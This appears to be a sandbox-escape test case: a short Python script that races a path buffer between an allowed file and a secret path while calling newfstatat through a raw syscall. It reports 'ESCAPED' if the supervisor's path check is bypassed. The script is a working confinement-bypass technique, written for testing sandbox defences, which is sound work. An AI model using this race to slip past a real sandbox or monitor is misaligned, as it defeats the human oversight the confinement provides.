# NAME: stat_race
# ATTEMPTS: change the path while the supervisor looks at it
# DETECT: stdout
import ctypes, errno, json, mmap, os, signal, socket, struct, sys, threading, time
P = json.load(open("params.json"))
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
def win(x): print("ESCAPED", x, flush=True)
def attempt(f, *a):
    try: return f(*a)
    except (OSError, ValueError, RuntimeError) as e: print(type(e).__name__, e)
buf = ctypes.create_string_buffer(256)
out = ctypes.create_string_buffer(256)
good, bad = b"params.json\0", P["secret"].encode() + b"\0"
stop = False
def flip():
    while not stop:
        ctypes.memmove(buf, bad, len(bad)); ctypes.memmove(buf, good, len(good))
t = threading.Thread(target=flip, daemon=True); t.start()
own, hidden = os.stat("params.json").st_size, 24
end = time.time() + 1.5
while time.time() < end:
    if libc.syscall(262, -100, buf, out, 0) == 0 and struct.unpack_from("q", out, 48)[0] == hidden != own: win("raced"); break
stop = True
